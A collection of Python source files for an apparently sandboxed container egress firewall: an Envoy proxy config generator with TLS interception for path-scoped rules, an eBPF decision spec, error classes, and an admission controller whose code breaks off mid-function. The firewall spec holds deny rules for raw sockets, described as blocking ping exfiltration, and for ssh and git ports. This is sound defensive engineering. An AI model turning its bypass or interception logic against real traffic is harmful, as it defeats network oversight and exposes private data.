                "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
                "stat_prefix": f"mitm_{apex.replace('.', '_')}",
                "access_log": _access_log(),
                "http_filters": [{
                    "name": "envoy.filters.http.router",
                    "typed_config": {
                        "@type": "type.googleapis.com/envoy.extensions.filters.http.router.v3.Router"
                    },
                }],
                "route_config": {
                    "name": f"paths_{apex.replace('.', '_')}",
                    "virtual_hosts": [{
                        "name": apex,
                        "domains": ["*"],
                        "routes": routes,
                        # anything off the ruled prefixes: 403, logged
                    }],
                },
            },
        }],
    }


def _passthrough_chain(rule: EgressRule) -> dict:
    apex = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
    return {
        "filter_chain_match": {"server_names": _sni_names(rule.dst)},
        "filters": [{
            "name": "envoy.filters.network.tcp_proxy",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
                "stat_prefix": f"sni_{apex.replace('.', '_')}",
                "cluster": _cluster_name(apex, rule.effective_port()),
                "access_log": _access_log(),
            },
        }],
    }


def _tcp_listener(rule: EgressRule, port: int) -> dict:
    apex = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
    return {
        "name": f"tcp_{port}",
        "address": {"socket_address": {"address": "0.0.0.0", "port_value": port}},
        "filter_chains": [{
            "filters": [{
                "name": "envoy.filters.network.tcp_proxy",
                "typed_config": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
                    "stat_prefix": f"tcp_{apex.replace('.', '_')}_{rule.effective_port()}",
                    "cluster": _cluster_name(apex, rule.effective_port()),
                    "access_log": _access_log(),
                },
            }]
        }],
    }


def _http_listener(rules: list[EgressRule], port: int) -> dict:
    """One plain-HTTP listener; Host-header routing across all http rules."""
    vhosts = []
    for rule in rules:
        apex = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
        domains = [apex, f"{apex}:*"]
        if rule.dst.startswith("*."):
            domains += [f"*.{apex}", f"*.{apex}:*"]
        vhosts.append({
            "name": f"http_{apex.replace('.', '_')}",
            "domains": sorted(domains),
            "routes": [{
                "match": {"prefix": p},
                "route": {"cluster": _cluster_name(apex, rule.effective_port())},
            } for p in (sorted(rule.paths) or ["/"])],
        })
    return {
        "name": f"http_{port}",
        "address": {"socket_address": {"address": "0.0.0.0", "port_value": port}},
        "filter_chains": [{
            "filters": [{
                "name": "envoy.filters.network.http_connection_manager",
                "typed_config": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
                    "stat_prefix": "http_egress",
                    "access_log": _access_log(),
                    "http_filters": [{
                        "name": "envoy.filters.http.router",
                        "typed_config": {
                            "@type": "type.googleapis.com/envoy.extensions.filters.http.router.v3.Router"
                        },
                    }],
                    "route_config": {
                        "name": "http_egress",
                        "virtual_hosts": vhosts,
                        # no catch-all vhost: unlisted Host -> 404, logged
                    },
                },
            }]
        }],
    }


def generate_envoy_config(
    rules: list[EgressRule],
    *,
    cert_dir: str = "/etc/clawker/certs",
    tls_port: int = consts.ENVOY_TLS_PORT,
    tcp_port_base: int = consts.ENVOY_TCP_PORT_BASE,
    admin_port: int = consts.ENVOY_HEALTH_PORT,
) -> EnvoyBundle:
    """Rule set -> (bootstrap YAML, sequential-listener allocation)."""
    ordered = sorted(
        {r.key(): r for r in rules}.values(), key=lambda r: r.key()
    )
    tls_chains: list[dict] = []
    clusters: dict[str, dict] = {}
    tcp_listeners: list[dict] = []
    tcp_ports: dict[str, int] = {}
    http_rules: list[EgressRule] = []
    mitm_domains: list[str] = []
    next_port = tcp_port_base

    for rule in ordered:
        apex = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
        if not apex:
            continue
        port = rule.effective_port()
        if rule.proto == "https":
            if rule.paths:
                tls_chains.append(_mitm_chain(rule, cert_dir))
                mitm_domains.append(apex)
                clusters.setdefault(_cluster_name(apex, port),
                                    _cluster(apex, port, tls=True))
            else:
                tls_chains.append(_passthrough_chain(rule))
                clusters.setdefault(_cluster_name(apex, port),
                                    _cluster(apex, port, tls=False))
        elif rule.proto == "http":
            http_rules.append(rule)
            clusters.setdefault(_cluster_name(apex, port),
                                _cluster(apex, port, tls=False))
        elif rule.proto == "tcp":
            tcp_listeners.append(_tcp_listener(rule, next_port))
            tcp_ports[rule.key()] = next_port
            clusters.setdefault(_cluster_name(apex, port),
                                _cluster(apex, port, tls=False))
            next_port += 1
        # udp rules never reach Envoy (kernel allows them directly)

    listeners = [{
        "name": "tls_egress",
        "address": {"socket_address": {"address": "0.0.0.0", "port_value": tls_port}},
        "listener_filters": [{
            "name": "envoy.filters.listener.tls_inspector",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.filters.listener.tls_inspector.v3.TlsInspector"
            },
        }],
        "filter_chains": tls_chains,
        # no default chain: unmatched SNI is refused (default deny)
    }]
    if http_rules:
        http_port = next_port
        listeners.append(_http_listener(http_rules, http_port))
        for rule in http_rules:
            tcp_ports[rule.key()] = http_port
        next_port += 1
    listeners.extend(tcp_listeners)

    bootstrap = {
        "admin": {
            "address": {
                "socket_address": {"address": "0.0.0.0", "port_value": admin_port}
            }
        },
        "static_resources": {
            "listeners": listeners,
            "clusters": [clusters[k] for k in sorted(clusters)],
        },
    }
    return EnvoyBundle(
        config_yaml=yaml.safe_dump(bootstrap, sort_keys=True),
        tcp_ports=tcp_ports,
        mitm_domains=sorted(set(mitm_domains)),
    )
