"""The egress decision semantics: executable spec for the kernel programs.

Every function here mirrors one eBPF program in native/ebpf/fw.c,
operating over a ``FirewallMaps`` store.  The unit suite drives THIS code
through the reference's e2e firewall scenarios (blocked/allowed domains,
ICMP, bypass, wildcard vs exact subdomains, UDP reverse-NAT, host-proxy
reachability -- /root/reference/test/e2e/firewall_test.go:77-709), making
it the oracle the C implementation is reviewed against -- the same
dual-guard idea the reference applies to its storage merge engine.

Decision order (same contract as the reference's decide_connect /
decide_sendmsg in bpf/common.h, re-derived):

1. cgroup not enrolled            -> ALLOW  (not ours; never interfere)
2. bypass entry present           -> ALLOW  (+ event, dead-man timed)
3. loopback dst (127/8)           -> ALLOW  (in-container services)
4. any :53                        -> dst == our DNS gate ? ALLOW
                                     : REDIRECT_DNS (hardcoded resolvers
                                       still get policy)
5. dst == Envoy                   -> ALLOW  (proxy upstream loop)
6. dst == hostproxy (flagged)     -> ALLOW  (OAuth/browser side channel)
7. dns_cache[dst_ip]              -> miss: DENY (ip-literal egress;
                                     fail-closed default-deny)
8. routes[zone,port,proto] then
   routes[zone,0,proto]           -> ALLOW | DENY | REDIRECT (Envoy)
9. no route                       -> DENY (zone resolved but proto/port
                                     not allowed); monitor-mode containers
                                     (no FLAG_ENFORCE) ALLOW + event
"""

from __future__ import annotations

import time

from .maps import FirewallMaps
from .model import (
    FLAG_ENFORCE,
    FLAG_HOSTPROXY,
    PROTO_TCP,
    PROTO_UDP,
    Action,
    DnsEntry,
    EgressEvent,
    Reason,
    RouteKey,
    RouteVal,
    UdpFlow,
    Verdict,
)

# socket types for sock_create (linux/net.h values)
SOCK_STREAM = 1
SOCK_DGRAM = 2
SOCK_RAW = 3
SOCK_PACKET = 10


def _event(maps: FirewallMaps, cgroup_id: int, dst_ip: str, dst_port: int,
           proto: int, v: Verdict) -> None:
    maps.emit_event(EgressEvent(
        ts_ns=time.monotonic_ns(), cgroup_id=cgroup_id, dst_ip=dst_ip,
        dst_port=dst_port, zone_hash=v.zone_hash, verdict=v.action,
        proto=proto, reason=v.reason,
    ))


def decide(maps: FirewallMaps, cgroup_id: int, dst_ip: str, dst_port: int,
           proto: int) -> Verdict:
    """Core verdict shared by connect4 and sendmsg4 (fw.c fw_decide)."""
    pol = maps.lookup_container(cgroup_id)
    if pol is None:
        return Verdict(Action.ALLOW, Reason.UNMANAGED)

    if maps.bypassed(cgroup_id):
        v = Verdict(Action.ALLOW, Reason.BYPASS)
        _event(maps, cgroup_id, dst_ip, dst_port, proto, v)
        return v

    if dst_ip.startswith("127."):
        return Verdict(Action.ALLOW, Reason.LOOPBACK)

    if dst_port == 53:
        if dst_ip == pol.dns_ip:
            return Verdict(Action.ALLOW, Reason.DNS)
        v = Verdict(Action.REDIRECT_DNS, Reason.DNS,
                    redirect_ip=pol.dns_ip, redirect_port=53)
        _event(maps, cgroup_id, dst_ip, dst_port, proto, v)
        return v

    if dst_ip == pol.envoy_ip:
        return Verdict(Action.ALLOW, Reason.ENVOY)

    if (pol.flags & FLAG_HOSTPROXY and dst_ip == pol.hostproxy_ip
            and dst_port == pol.hostproxy_port):
        return Verdict(Action.ALLOW, Reason.HOSTPROXY)

    if (pol.net_prefix and dst_ip not in (pol.dns_ip, pol.hostproxy_ip)
            and _in_cidr(dst_ip, pol.net_ip, pol.net_prefix)):
        # intra-network bypass: sibling services on the sandbox bridge
        # (CP, otel-collector, project listeners) are reachable without
        # rules -- the network is clawker-managed (reference e2e:
        # firewall_test.go:398 IntraNetworkBypass).  The gateway (= the
        # host, where the gate/hostproxy live) is NOT a sibling: non-proxy
        # host ports stay blocked (firewall_test.go:497).
        return Verdict(Action.ALLOW, Reason.INTRA_NET)

    dns = maps.lookup_dns(dst_ip)
    if dns is None:
        v = _no_route(pol, Reason.NO_DNS_ENTRY)
        _event(maps, cgroup_id, dst_ip, dst_port, proto, v)
        return v

    route = maps.lookup_route(RouteKey(dns.zone_hash, dst_port, proto))
    if route is None:
        route = maps.lookup_route(RouteKey(dns.zone_hash, 0, proto))
    if route is None:
        v = _no_route(pol, Reason.NO_ROUTE, zone=dns.zone_hash)
        _event(maps, cgroup_id, dst_ip, dst_port, proto, v)
        return v

    v = Verdict(route.action, Reason.ROUTE, redirect_ip=route.redirect_ip,
                redirect_port=route.redirect_port, zone_hash=dns.zone_hash)
    _event(maps, cgroup_id, dst_ip, dst_port, proto, v)
    return v


def _in_cidr(ip: str, net: str, prefix: int) -> bool:
    """ip within net/prefix (v4)."""
    import socket as _s
    import struct as _struct

    if not 0 < prefix <= 32:
        return False
    mask = (0xFFFFFFFF << (32 - prefix)) & 0xFFFFFFFF
    try:
        ip_n = _struct.unpack(">I", _s.inet_aton(ip))[0]
        net_n = _struct.unpack(">I", _s.inet_aton(net))[0]
    except OSError:
        return False
    return (ip_n & mask) == (net_n & mask)


def _no_route(pol, reason: Reason, zone: int = 0) -> Verdict:
    if pol.flags & FLAG_ENFORCE:
        return Verdict(Action.DENY, reason, zone_hash=zone)
    return Verdict(Action.ALLOW, Reason.MONITOR, zone_hash=zone)


# --------------------------------------------------------------------------
# per-hook entry points (one per C program)
# --------------------------------------------------------------------------

def connect4(maps: FirewallMaps, cgroup_id: int, dst_ip: str, dst_port: int,
             proto: int = PROTO_TCP, sock_cookie: int = 0) -> Verdict:
    """cgroup/connect4 twin.  REDIRECT verdicts mean the kernel rewrote
    the sockaddr before the connect proceeded; the original destination
    is recorded (TCP and UDP in separate LRUs) so getpeername4 can
    reverse it."""
    v = decide(maps, cgroup_id, dst_ip, dst_port, proto)
    if sock_cookie and v.action in (Action.REDIRECT, Action.REDIRECT_DNS):
        flow = UdpFlow(orig_ip=dst_ip, orig_port=dst_port)
        if proto == PROTO_UDP:
            maps.record_udp_flow(sock_cookie, flow)
        else:
            maps.record_tcp_flow(sock_cookie, flow)
    return v


def sendmsg4(maps: FirewallMaps, cgroup_id: int, sock_cookie: int,
             dst_ip: str, dst_port: int) -> Verdict:
    """cgroup/sendmsg4 twin (unconnected UDP).  On redirect, the original
    destination is recorded by socket cookie so recvmsg4 can reverse-NAT
    the reply's source address."""
    v = decide(maps, cgroup_id, dst_ip, dst_port, PROTO_UDP)
    if v.action in (Action.REDIRECT, Action.REDIRECT_DNS):
        maps.record_udp_flow(sock_cookie, UdpFlow(orig_ip=dst_ip, orig_port=dst_port))
    return v


def recvmsg4(maps: FirewallMaps, cgroup_id: int, sock_cookie: int,
             src_ip: str, src_port: int) -> tuple[str, int]:
    """cgroup/recvmsg4 twin: returns the (possibly rewritten) source the
    app observes.  A reply from the redirect target is rewritten back to
    the destination the app originally sent to."""
    pol = maps.lookup_container(cgroup_id)
    if pol is None:
        return src_ip, src_port
    flow = maps.lookup_udp_flow(sock_cookie)
    if flow is not None and src_ip in (pol.dns_ip, pol.envoy_ip):
        return flow.orig_ip, flow.orig_port
    return src_ip, src_port


def getpeername4(maps: FirewallMaps, cgroup_id: int, sock_cookie: int,
                 peer_ip: str, peer_port: int) -> tuple[str, int]:
    """cgroup/getpeername4 twin: connected sockets (TCP or UDP) report
    the destination the app aimed at, not the rewrite target."""
    pol = maps.lookup_container(cgroup_id)
    if pol is None:
        return peer_ip, peer_port
    flow = maps.lookup_udp_flow(sock_cookie) or maps.lookup_tcp_flow(sock_cookie)
    if flow is not None and peer_ip in (pol.dns_ip, pol.envoy_ip):
        return flow.orig_ip, flow.orig_port
    return peer_ip, peer_port


def connect6(maps: FirewallMaps, cgroup_id: int, dst_ip6: str, dst_port: int,
             proto: int = PROTO_TCP) -> Verdict:
    """cgroup/connect6 twin: IPv4-mapped addresses route through the v4
    decision; native IPv6 is denied for enrolled cgroups (the sandbox
    network is v4-only, so v6 would be an enforcement hole)."""
    pol = maps.lookup_container(cgroup_id)
    if pol is None:
        return Verdict(Action.ALLOW, Reason.UNMANAGED)
    if maps.bypassed(cgroup_id):
        # break-glass must open v6 too, matching decide()'s bypass step
        v = Verdict(Action.ALLOW, Reason.BYPASS)
        _event(maps, cgroup_id, "0.0.0.0", dst_port, proto, v)
        return v
    low = dst_ip6.lower()
    if low.startswith("::ffff:"):
        return decide(maps, cgroup_id, dst_ip6[7:], dst_port, proto)
    if low in ("::1",):
        return Verdict(Action.ALLOW, Reason.LOOPBACK)
    v = Verdict(Action.DENY, Reason.IPV6)
    _event(maps, cgroup_id, "0.0.0.0", dst_port, proto, v)
    return v


def sock_create(maps: FirewallMaps, cgroup_id: int, family: int,
                sock_type: int) -> Verdict:
    """cgroup/sock_create twin: SOCK_RAW / SOCK_PACKET are denied for
    enrolled cgroups -- blocks ICMP (ping exfil) and packet crafting
    (reference e2e: firewall_test.go:103 ICMP scenario)."""
    if maps.lookup_container(cgroup_id) is None:
        return Verdict(Action.ALLOW, Reason.UNMANAGED)
    if maps.bypassed(cgroup_id):
        return Verdict(Action.ALLOW, Reason.BYPASS)
    if sock_type in (SOCK_RAW, SOCK_PACKET):
        v = Verdict(Action.DENY, Reason.RAW_SOCKET)
        _event(maps, cgroup_id, "0.0.0.0", 0, 0, v)
        return v
    return Verdict(Action.ALLOW, Reason.UNMANAGED)


# --------------------------------------------------------------------------
# route-table construction (userspace only; consumed by sync_routes)
# --------------------------------------------------------------------------

def build_routes(rules, *, envoy_ip: str, tls_port: int,
                 tcp_ports: dict[str, int] | None = None) -> dict[RouteKey, RouteVal]:
    """Egress rules -> global route table.

    https rules redirect to the Envoy TLS/SNI listener (MITM or
    passthrough decided by Envoy config, not the kernel); http and tcp
    rules redirect to their allocated sequential Envoy listener; udp
    rules allow directly (no proxy lane for arbitrary UDP).

    ``tcp_ports`` maps rule.key() -> allocated Envoy listener port
    (EnvoyBundle.tcp_ports) so kernel and proxy agree.
    """
    from .hashes import zone_hash

    table: dict[RouteKey, RouteVal] = {}
    tcp_ports = tcp_ports or {}
    # allow rules first so a domain-level deny sharing a zone wins
    ordered = sorted(rules, key=lambda r: getattr(r, "action", "allow") == "deny")
    for rule in ordered:
        apex = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
        zh = zone_hash(apex)
        port = rule.effective_port()
        if getattr(rule, "action", "allow") == "deny":
            if rule.port or rule.proto in ("ssh", "git"):
                # Port-scoped deny (gitguard's ssh/22 + git/9418 pins,
                # docs/git-policy.md): deny exactly this port lane --
                # written AFTER allows, so it beats a same-key allow --
                # while the zone's other lanes (the guarded https path)
                # stay live and the DNS gate keeps resolving the host.
                table[RouteKey(zh, port, PROTO_TCP)] = RouteVal(Action.DENY)
                if rule.proto == "udp":
                    table[RouteKey(zh, port, PROTO_UDP)] = RouteVal(
                        Action.DENY)
                continue
            # Defense in depth behind the DNS-gate NXDOMAIN: even a stale
            # dns_cache entry for the denied zone denies on every port.
            table[RouteKey(zh, 0, PROTO_TCP)] = RouteVal(Action.DENY)
            table[RouteKey(zh, 0, PROTO_UDP)] = RouteVal(Action.DENY)
            continue
        if rule.proto == "https":
            table[RouteKey(zh, port, PROTO_TCP)] = RouteVal(
                Action.REDIRECT, redirect_ip=envoy_ip, redirect_port=tls_port)
        elif rule.proto == "http":
            lport = tcp_ports.get(rule.key())
            if lport:
                table[RouteKey(zh, port, PROTO_TCP)] = RouteVal(
                    Action.REDIRECT, redirect_ip=envoy_ip, redirect_port=lport)
            else:  # no HTTP lane allocated: direct allow (never the TLS
                # listener -- tls_inspector can't parse cleartext)
                table[RouteKey(zh, port, PROTO_TCP)] = RouteVal(Action.ALLOW)
        elif rule.proto == "udp":
            table[RouteKey(zh, port, PROTO_UDP)] = RouteVal(Action.ALLOW)
        else:
            # TCP-mapped named protocols (tcp, ssh, git, ...) ride their
            # allocated sequential Envoy listener (firewall_test.go:503).
            lport = tcp_ports.get(rule.key())
            if lport:
                table[RouteKey(zh, port, PROTO_TCP)] = RouteVal(
                    Action.REDIRECT, redirect_ip=envoy_ip, redirect_port=lport)
            else:  # no proxy lane allocated: direct allow, still DNS-gated
                table[RouteKey(zh, port, PROTO_TCP)] = RouteVal(Action.ALLOW)
    return table
