"""Typed error hierarchy for CLI and domain layers.

Parity reference: internal/cmdutil typed errors (FlagError / SilentError /
ExitError) and the centralized error rendering in internal/clawker/cmd.go.
"""

from __future__ import annotations


class ClawkerError(Exception):
    """Base class for all framework errors."""


class FlagError(ClawkerError):
    """User error in flags/arguments; CLI prints usage alongside the message."""


class SilentError(ClawkerError):
    """Error already presented to the user; CLI exits non-zero, prints nothing."""


class ExitError(ClawkerError):
    """Carries an explicit process exit code (e.g. forwarded agent exit)."""

    def __init__(self, code: int, message: str = ""):
        super().__init__(message or f"exit status {code}")
        self.code = code


class NotFoundError(ClawkerError):
    """Requested object (container, image, project, agent...) does not exist."""


class ConflictError(ClawkerError):
    """Object already exists or state transition is not allowed."""


class JailViolation(ClawkerError):
    """An engine operation tried to touch an object without the managed label.

    The label jail is a hard safety boundary (reference: pkg/whail/engine.go
    injectManagedFilter): this framework must never mutate containers,
    images, volumes, or networks it does not own.
    """


class DriverError(ClawkerError):
    """Runtime driver transport failure (daemon unreachable, SSH down...)."""


class ConfigError(ClawkerError):
    """Invalid or unresolvable configuration."""


class AuthError(ClawkerError):
    """Identity/credential failure (mTLS, token, assertion)."""
