"""Per-worker admission control: token buckets, bounded queues, fairness.

The PR-1 scheduler submitted every launch straight onto its worker's
serial lane: a 64-loop burst parked 16 creates deep on each lane, so
polls and halts queued behind minutes of bootstrap work and one slow
daemon wedged a whole lane's control traffic.  The
:class:`AdmissionController` sits between placement and the lanes:

- **Token bucket per worker.**  At most ``max_inflight_per_worker``
  create/start launches may be outstanding against one worker at a
  time; the rest wait in the controller's pending queue, NOT on the
  lane, so the lane stays responsive for polls and halts and each
  daemon drains the burst at its sustainable rate.
- **Bounded pending queue.**  Beyond ``max_pending_per_worker`` a
  submission is REJECTED (``admission_rejections_total``); the caller
  re-places it elsewhere or retries -- unbounded queues just move the
  stampede one hop upstream.
- **Weighted fair queueing across tenants.**  Pending launches dequeue
  by virtual-finish-time WFQ over each tenant's weight, with optional
  per-tenant max-in-flight caps: two runs sharing a pod split each
  worker's tokens by weight instead of first-burst-wins.

One controller may serve several schedulers (that is how two tenant
runs share a pod in-process today, and the interface a worker-resident
agentd will implement for the cross-process case).  Thread-safe: lane
done-callbacks release tokens, run threads submit, and dispatch
callbacks always run OUTSIDE the controller lock.

Admission wait time lands in ``placement_admission_wait_seconds``
(queue wait before dispatch); the lane's own queueing stays visible as
``loop_lane_queue_seconds`` -- the two sum to the full pre-create wait.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from typing import Callable

from .. import logsetup, telemetry

log = logsetup.get("placement.admission")

DEFAULT_MAX_INFLIGHT = 4
DEFAULT_MAX_PENDING = 256
DEFAULT_RETRY_AFTER_S = 0.25    # backoff hint before any launch latency
#                                 was measured (one fallback tick)
LAUNCH_EWMA_ALPHA = 0.2         # dispatch->release latency smoothing

# submit() outcomes
ADMISSION_DISPATCHED = "dispatched"
ADMISSION_QUEUED = "queued"
ADMISSION_REJECTED = "rejected"


class AdmissionOutcome(str):
    """A submit() outcome that still compares equal to the bare outcome
    strings (``st == ADMISSION_REJECTED`` keeps working everywhere) but
    carries the backoff hint a rejection owes its caller: how long
    until the worker's queue is expected to have room, derived from the
    queue depth and the measured launch latency.  0.0 on non-rejected
    outcomes.  ``reason`` distinguishes a full queue from a capacity-
    controller shed (SLO unattainable)."""

    retry_after_s: float
    reason: str

    def __new__(cls, value: str, retry_after_s: float = 0.0,
                reason: str = ""):
        self = super().__new__(cls, value)
        self.retry_after_s = float(retry_after_s)
        self.reason = reason
        return self

_QUEUE_DEPTH = telemetry.gauge(
    "placement_queue_depth", "Launches waiting in the admission queue",
    labels=("tenant",))
_REJECTIONS = telemetry.counter(
    "admission_rejections_total",
    "Launch submissions rejected by a full admission queue",
    labels=("worker",))
_ADMIT_WAIT = telemetry.histogram(
    "placement_admission_wait_seconds",
    "Time a launch waited in the admission queue before dispatch",
    labels=("worker",))
_INFLIGHT = telemetry.gauge(
    "placement_inflight_launches", "Admitted launches not yet completed",
    labels=("worker",))


@dataclass(eq=False)        # identity semantics: tickets are work items
class AdmissionTicket:
    """One pending launch.  ``run`` receives a ``release`` callable the
    launch must invoke exactly once on completion (success or failure);
    ``cancelled`` is polled at dispatch time so stale work (orphaned
    placements, stopped runs) melts out of the queue without consuming
    a token; ``on_cancel`` lets the submitter settle its bookkeeping
    (e.g. complete the in-flight future) when that happens."""

    worker_id: str
    tenant: str
    run: Callable[[Callable[[], None]], None]
    cancelled: Callable[[], bool] = lambda: False
    on_cancel: Callable[[], None] | None = None
    enqueued_at: float = 0.0
    vfinish: float = 0.0
    epoch: int = 0              # gate epoch at dispatch (token ownership)


class _TenantShare:
    def __init__(self, name: str, weight: float, max_inflight: int):
        self.name = name
        self.weight = max(0.01, float(weight))
        self.max_inflight = max(0, int(max_inflight))
        self.vfinish = 0.0          # virtual finish time of the last enqueue
        self.inflight = 0
        self.inflight_hwm = 0
        self.queued = 0
        self.dispatched = 0
        self.rejected = 0
        self.cancelled = 0


class _WorkerGate:
    def __init__(self, capacity: int):
        self.capacity = capacity
        self.inflight = 0
        self.inflight_hwm = 0
        self.inflight_by_tenant: dict[str, int] = {}  # who holds the tokens
        self.epoch = 0              # bumped by reset(): stale releases no-op
        self.pending: list[AdmissionTicket] = []
        self.dispatched = 0
        self.rejected = 0
        self.launch_ewma_s = 0.0    # dispatch->release wall EWMA: what the
        #                             capacity controller scales tokens from
        #                             and retry_after estimates divide by
        self.shed_retry_after_s = 0.0   # > 0: the capacity controller
        #                             flipped this worker's bounded queue
        #                             to reject-with-retry-after (the SLO
        #                             is unattainable at current depth)


class AdmissionController:
    """Token-bucket + WFQ admission for launch work across a pod."""

    def __init__(self, *, max_inflight_per_worker: int = DEFAULT_MAX_INFLIGHT,
                 max_pending_per_worker: int = DEFAULT_MAX_PENDING,
                 clock=time.monotonic):
        self.max_inflight = max(1, int(max_inflight_per_worker))
        self.max_pending = max(1, int(max_pending_per_worker))
        self._clock = clock
        self._lock = threading.Lock()
        self._workers: dict[str, _WorkerGate] = {}
        self._tenants: dict[str, _TenantShare] = {}
        self._vtime = 0.0           # WFQ virtual clock (advances on dispatch)

    # ------------------------------------------------------------- tenants

    def register_tenant(self, tenant: str, *, weight: float = 1.0,
                        max_inflight: int = 0) -> None:
        """Declare (or re-weight) a tenant.  Unregistered tenants that
        submit get weight 1.0 and no cap -- registration is for shares,
        not permission."""
        with self._lock:
            share = self._tenants.get(tenant)
            if share is None:
                self._tenants[tenant] = _TenantShare(
                    tenant, weight, max_inflight)
            else:
                share.weight = max(0.01, float(weight))
                share.max_inflight = max(0, int(max_inflight))

    def _tenant(self, tenant: str) -> _TenantShare:
        share = self._tenants.get(tenant)
        if share is None:
            share = _TenantShare(tenant, 1.0, 0)
            self._tenants[tenant] = share
        return share

    def _gate(self, worker_id: str) -> _WorkerGate:
        gate = self._workers.get(worker_id)
        if gate is None:
            gate = _WorkerGate(self.max_inflight)
            self._workers[worker_id] = gate
        return gate

    # -------------------------------------------------------------- submit

    def submit(self, worker_id: str, tenant: str,
               run: Callable[[Callable[[], None]], None], *,
               cancelled: Callable[[], bool] | None = None,
               on_cancel: Callable[[], None] | None = None) -> AdmissionOutcome:
        """Admit a launch against ``worker_id`` billed to ``tenant``.

        Returns ``dispatched`` (token acquired, ``run`` called before
        returning), ``queued`` (waiting for a token or its tenant's
        cap), or ``rejected`` (pending queue full, or the capacity
        controller shed the queue -- nothing retained; the caller owns
        the retry/re-place, and the outcome's ``retry_after_s`` says
        when the queue is expected to have room)."""
        ticket = AdmissionTicket(
            worker_id=worker_id, tenant=tenant, run=run,
            cancelled=cancelled or (lambda: False), on_cancel=on_cancel,
            enqueued_at=self._clock())
        dispatches: list[AdmissionTicket] = []
        with self._lock:
            gate = self._gate(worker_id)
            share = self._tenant(tenant)
            full = len(gate.pending) >= self.max_pending
            # shed mode (docs/elastic-capacity.md): the SLO is provably
            # unattainable at current queue depth, so a submission that
            # would QUEUE is rejected with the honest backoff instead
            # of joining a line it cannot clear in time.  A submission
            # a free token would dispatch immediately still goes in.
            shed = (gate.shed_retry_after_s > 0
                    and (gate.pending or gate.inflight >= gate.capacity))
            if full or shed:
                gate.rejected += 1
                share.rejected += 1
                _REJECTIONS.labels(worker_id).inc()
                retry = (gate.shed_retry_after_s if shed
                         else self._retry_after_locked(gate))
                return AdmissionOutcome(
                    ADMISSION_REJECTED, retry,
                    "queue shed (SLO unattainable)" if shed
                    else "admission queue full")
            # WFQ stamp: the ticket finishes 1/weight of virtual time
            # after the later of the global clock and the tenant's last
            # enqueue -- back-to-back bursts from one tenant stack up,
            # an idle tenant's first ticket starts "now"
            start = max(self._vtime, share.vfinish)
            ticket.vfinish = start + 1.0 / share.weight
            share.vfinish = ticket.vfinish
            gate.pending.append(ticket)
            share.queued += 1
            _QUEUE_DEPTH.labels(tenant).set(share.queued)
            self._pump_locked(dispatches)
            queued = not any(t is ticket for t in dispatches)
        self._run_dispatches(dispatches)
        return AdmissionOutcome(ADMISSION_QUEUED if queued
                                else ADMISSION_DISPATCHED)

    def _retry_after_locked(self, gate: _WorkerGate) -> float:
        """Backoff hint for a full-queue rejection: the time the current
        backlog needs to drain at the measured launch rate.  Before any
        launch completed there is no rate -- one fallback tick."""
        if gate.launch_ewma_s <= 0:
            return DEFAULT_RETRY_AFTER_S
        backlog = len(gate.pending) + gate.inflight
        return max(0.05, backlog * gate.launch_ewma_s
                   / max(1, gate.capacity))

    # ------------------------------------------------------------ dispatch

    def _pump_locked(self, dispatches: list[AdmissionTicket]) -> None:
        """Move tickets pending -> dispatched wherever a worker has free
        tokens and the WFQ picks an un-capped tenant.  Collects the
        tickets; the caller runs them outside the lock."""
        progress = True
        while progress:
            progress = False
            for gate in self._workers.values():
                # melt cancelled tickets BEFORE the capacity check: a
                # stopped run's queue must settle (on_cancel fires, the
                # pending slot frees) even on a worker whose tokens are
                # all held by wedged launches that will never release
                for t in list(gate.pending):
                    if t.cancelled():
                        gate.pending.remove(t)
                        share = self._tenant(t.tenant)
                        share.queued -= 1
                        share.cancelled += 1
                        _QUEUE_DEPTH.labels(t.tenant).set(share.queued)
                        if t.on_cancel is not None:
                            # bookkeeping only (futures settle); never
                            # user dispatch work -- safe under the lock
                            try:
                                t.on_cancel()
                            except Exception:
                                log.exception("admission on_cancel failed")
                if gate.inflight >= gate.capacity or not gate.pending:
                    continue
                best: AdmissionTicket | None = None
                for t in gate.pending:
                    share = self._tenant(t.tenant)
                    if (share.max_inflight
                            and share.inflight >= share.max_inflight):
                        continue
                    if best is None or t.vfinish < best.vfinish:
                        best = t
                if best is None:
                    continue
                gate.pending.remove(best)
                best.epoch = gate.epoch
                share = self._tenant(best.tenant)
                share.queued -= 1
                share.dispatched += 1
                share.inflight += 1
                share.inflight_hwm = max(share.inflight_hwm, share.inflight)
                gate.inflight += 1
                gate.inflight_hwm = max(gate.inflight_hwm, gate.inflight)
                gate.inflight_by_tenant[best.tenant] = (
                    gate.inflight_by_tenant.get(best.tenant, 0) + 1)
                gate.dispatched += 1
                self._vtime = max(self._vtime, best.vfinish)
                _QUEUE_DEPTH.labels(best.tenant).set(share.queued)
                _INFLIGHT.labels(best.worker_id).set(gate.inflight)
                _ADMIT_WAIT.labels(best.worker_id).observe(
                    max(0.0, self._clock() - best.enqueued_at))
                dispatches.append(best)
                progress = True

    def _run_dispatches(self, dispatches: list[AdmissionTicket]) -> None:
        for t in dispatches:
            release = self._make_release(t.worker_id, t.tenant, t.epoch)
            try:
                t.run(release)
            except Exception:
                # a dispatch that never started holds no launch: return
                # the token or the slot leaks forever
                log.exception("admission dispatch failed for %s", t.worker_id)
                release()

    def _make_release(self, worker_id: str, tenant: str, epoch: int):
        """One-shot, epoch-guarded token return.  A release from work
        admitted before a ``reset_worker`` (a launch wedged on a retired
        lane that finally unblocks) must not free a token in the NEW
        epoch's bucket.  ``epoch`` is the gate epoch stamped at dispatch
        accounting time (inside the pump's lock hold) -- re-reading it
        here would race a reset_worker landing between dispatch and this
        call and hand the stranded launch the NEW epoch."""
        done = threading.Event()
        t_dispatch = self._clock()

        def release() -> None:
            if done.is_set():
                return
            done.set()
            held_s = max(0.0, self._clock() - t_dispatch)
            dispatches: list[AdmissionTicket] = []
            with self._lock:
